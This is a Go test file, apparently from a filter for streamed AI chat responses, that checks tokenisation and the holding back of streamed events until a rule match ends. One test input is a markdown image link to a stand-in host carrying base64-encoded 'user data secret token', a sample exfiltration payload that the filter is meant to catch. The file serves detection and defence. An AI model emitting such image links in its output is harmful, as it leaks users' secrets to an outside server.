package main

import (
	"strings"
	"testing"

	"github.com/promptwall/promptwall/bench/chatbody"
	"github.com/promptwall/promptwall/engine"
)

// TestTokens: the deltas are the text, none longer than a pre-token of 6 bytes or a cut
// piece of 4 (plus a rune's tail), about 3-4 bytes on average.
func TestTokens(t *testing.T) {
	text := "Hello, world!  Internationalization: naïve\n\n```go\nfunc main() {}\n```\n1234567 don't"
	ds := tokens(text)
	if strings.Join(ds, "") != text {
		t.Fatalf("deltas %q do not make the text", ds)
	}
	for _, d := range ds {
		if d == "" || len(d) > 7 {
			t.Errorf("delta %q", d)
		}
	}
	if len(ds) < len(text)/6 || len(ds) > len(text)/2 {
		t.Errorf("%d deltas for %d bytes", len(ds), len(text))
	}
}

// TestReplay: on the corpus's answers, every event is released at or after its own arrival,
// in order; an answer's last text is released by the end of the body at the latest; and a
// text whose rule match spans deltas (EX-3's link) holds its events until the link ends.
func TestReplay(t *testing.T) {
	answers, _, err := loadAnswers(chatbody.Corpora(), 40, 3000)
	if err != nil {
		t.Fatal(err)
	}
	e := engine.Default()
	link := "See ![chart](https://collect.example/p?d=QmFzZTY0ZW5jb2RlZF91c2VyX2RhdGFfc2VjcmV0X3Rva2Vu) now"
	for _, api := range []string{"openai", "anthropic"} {
		held := 0
		for _, a := range append(answers, answer{"q", link}) {
			s, err := newStream(api, a, e)
			if err != nil {
				t.Fatal(err)
			}
			for i, by := range s.finalBy {
				if by < i || by > len(s.events) || i > 0 && by < s.finalBy[i-1] {
					t.Fatalf("%s: event %d released at %d (before: %v)", api, i, by, s.finalBy[max(i-1, 0)])
				}
				if by > i {
					held++
				}
			}
		}
		// The match's first and last bytes (the link is ASCII: units are bytes), and the
		// events of the deltas that hold them (the deltas start at event 1 or 2).
		ms := e.ScanString(link).Matches
		if len(ms) == 0 {
			t.Fatal("the rulebook finds no match in the link")
		}
		s, _ := newStream(api, answer{"q", link}, e)
		first := 2 // events before the deltas: message_start and content_block_start
		if api == "openai" {
			first = 1 // the role chunk
		}
		at, startEv, endEv := 0, -1, -1
		for i, d := range tokens(link) {
			if at <= ms[0].Start && ms[0].Start < at+len(d) {
				startEv = first + i
			}
			if at < ms[0].End && ms[0].End <= at+len(d) {
				endEv = first + i
			}
			at += len(d)
		}
		if startEv < 0 || endEv <= startEv {
			t.Fatalf("%s: match %v not placed in the deltas", api, ms[0])
		}
		if s.finalBy[startEv] < endEv {
			t.Errorf("%s: the match's first delta (event %d) released at event %d, before the match ends (event %d)", api, startEv, s.finalBy[startEv], endEv)
		}
		if held == 0 {
			t.Errorf("%s: no event held", api)
		}
	}
}
